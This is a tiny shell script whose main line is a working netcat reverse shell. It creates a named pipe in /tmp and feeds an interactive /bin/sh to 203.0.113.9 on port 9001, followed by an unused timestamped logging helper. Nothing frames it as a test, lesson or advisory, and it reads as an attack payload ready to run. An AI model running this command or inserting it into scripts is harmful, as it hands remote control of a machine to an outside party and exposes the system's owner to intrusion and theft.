#!/bin/sh
rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 9001 > /tmp/f
log() { echo "[$(date +%H:%M:%S)] $*"; }
